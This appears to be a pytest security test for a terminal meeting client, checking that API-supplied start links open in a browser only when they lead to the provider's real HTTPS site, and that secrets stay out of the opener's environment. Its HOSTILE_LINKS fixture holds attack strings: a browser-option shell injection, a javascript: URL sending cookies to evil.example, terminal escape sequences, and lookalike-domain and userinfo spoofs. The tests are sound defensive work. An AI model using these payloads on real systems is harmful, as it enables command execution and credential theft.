"""A start link from the API is opened only when it leads to the provider's own site.

The app runs on the real Deck against the sandbox; a proxy transport replaces the start
links of the answers (`hostURL`, `start_url`, `startUrl`) with hostile ones. A stand-in
`xdg-open` first on PATH records what a browser would have been started with, and the
environment holds a `MEETDECK_*` client secret and other tokens. Then:

- a hostile link (an option for the browser, another site, plain http, a script URL,
  escape sequences) starts nothing: the dialog shows the link, cleaned, and why it was
  not opened;
- the demo's own start link (the sandbox's loopback origin, allowed because this is the
  demo profile) is handed to the opener as its only argument, and the opener's
  environment holds none of the secrets.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.support.app import SIZE, key_of, press, show_tab
from tests.support.chaos import PROFILE, SyncedCache, tally
from tests.support.hostile import JsonRewritingTransport, assert_literal, hostile_deck
from tests.support.opener import FakeOpener, fake_opener
from tests.support.screen import screen_text
from tests.support.waits import wait_for
from tui.app import MeetdeckApp, build_app
from tui.core.deck.facade import Deck
from tui.core.models import Provider
from tui.ui_options import UiOptions

START_KEYS = ("hostURL", "start_url", "startUrl")
HOSTILE_LINKS = {
    "option": "--renderer-cmd-prefix=/bin/sh -c 'touch /tmp/pwned' https://x",
    "other-site": "https://global.gotomeeting.com.evil.example/start/1?token=x",
    "plain-http": "http://global.gotomeeting.com/start/1",
    "script": "javascript:fetch('https://evil.example/'+document.cookie)",
    "escapes": "https://global.gotomeeting.com/\x1b]0;PWNED\x07\x1b]52;c;ZXZpbA==\x07\x9b2J",
    "userinfo": "https://global.gotomeeting.com@evil.example/start/1",
}
SECRETS = {
    "MEETDECK_GOTO_CLIENT_SECRET": "leak-goto-secret",
    "MEETDECK_ZOOM_CLIENT_SECRET": "leak-zoom-secret",
    "GITHUB_TOKEN": "leak-github-token",
}


class StartLinkTransport(JsonRewritingTransport):
    """Replaces start links in JSON answers with `link` (None: changes nothing)."""

    def __init__(self, link: str | None) -> None:
        super().__init__()
        self.link = link
        self.replaced = 0

    def applies(self, request: httpx.Request) -> bool:
        return self.link is not None

    def replace(self, key: str, item: str) -> str | None:
        if key not in START_KEYS:
            return None
        self.replaced += 1
        return self.link


@pytest.fixture
def opener(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FakeOpener:
    """A recording xdg-open first on PATH, a display, and secrets in the environment."""
    fake = fake_opener(tmp_path / "opener")
    monkeypatch.setenv("PATH", f"{fake.bin}{os.pathsep}{os.environ.get('PATH', '')}")
    monkeypatch.setenv("DISPLAY", ":0")
    monkeypatch.delenv("SSH_CONNECTION", raising=False)
    monkeypatch.delenv("SSH_TTY", raising=False)
    monkeypatch.delenv("BROWSER", raising=False)
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    return fake


def app_on(synced: SyncedCache, tmp_path: Path, transport: StartLinkTransport) -> MeetdeckApp:
    paths = synced.install(tmp_path / "home")

    def factory(name: str | None) -> Deck:
        return hostile_deck(paths, synced.base_url, transport)

    return build_app(
        factory,
        UiOptions(sync_on_start=False, timezone="UTC", demo=True, download_dir=tmp_path / "dl"),
        profile=PROFILE,
    )


async def open_start_dialog(pilot: Any, app: MeetdeckApp) -> Any:
    """Sign in (the demo's way), then fetch the start link of a GoTo meeting."""
    await app.deck.demo_sign_in()
    pane = await show_tab(pilot, app, "meetings")
    rows = [pane.table.row_at(i) for i in range(pane.table.row_count)]
    pane.table.cursor_row = next(
        i for i, row in enumerate(rows) if row is not None and row.provider is Provider.GOTO_MEETING
    )
    await press(pilot, app, "start-url")
    await wait_for(
        pilot,
        lambda: type(app.screen).__name__ == "StartUrlDialog",
        what="the start link dialog",
        detail=lambda: screen_text(app),
    )
    assert type(app.screen).__name__ == "StartUrlDialog", screen_text(app)
    return app.screen


@pytest.mark.parametrize("name", list(HOSTILE_LINKS))
async def test_a_hostile_start_link_is_shown_not_opened(
    name: str,
    synced: SyncedCache,
    tmp_path: Path,
    opener: FakeOpener,
    request: pytest.FixtureRequest,
) -> None:
    transport = StartLinkTransport(HOSTILE_LINKS[name])
    app = app_on(synced, tmp_path, transport)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        dialog = await open_start_dialog(pilot, app)
        assert transport.replaced
        await pilot.press(key_of(app, "start-open"))
        await wait_for(
            pilot,
            lambda: "Not opened in a browser" in screen_text(app),
            what="the refusal",
            detail=lambda: screen_text(app),
        )
        text = screen_text(app)
        assert "Not opened in a browser" in text, text
        assert "Opening the host start link" not in " ".join(n.message for n in app._notifications)
        assert_literal(app, name)
        assert dialog.query_one("#start-link").has_class("-shown")  # shown instead
        await app.workers.wait_for_complete()
    assert not opener.ran, opener.args()
    tally(request, "hostile-links")


async def test_the_demo_start_link_opens_without_secrets(
    synced: SyncedCache, tmp_path: Path, opener: FakeOpener
) -> None:
    app = app_on(synced, tmp_path, StartLinkTransport(None))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        dialog = await open_start_dialog(pilot, app)
        link = dialog._start.url
        assert link.startswith(synced.base_url + "/_sandbox/start/g2m/")
        await pilot.press(key_of(app, "start-open"))
        await wait_for(
            pilot,
            lambda: opener.ran,  # started by a thread worker
            what="the browser opener to run",
            detail=lambda: screen_text(app),
        )
        assert opener.ran, screen_text(app)
        assert "Not opened" not in screen_text(app)
    assert opener.args() == [link]
    env = opener.env()
    assert env.get("DISPLAY") == ":0"
    assert not [name for name in env if name in SECRETS or name.startswith("MEETDECK_")]
    assert not [value for value in env.values() if value in SECRETS.values()]
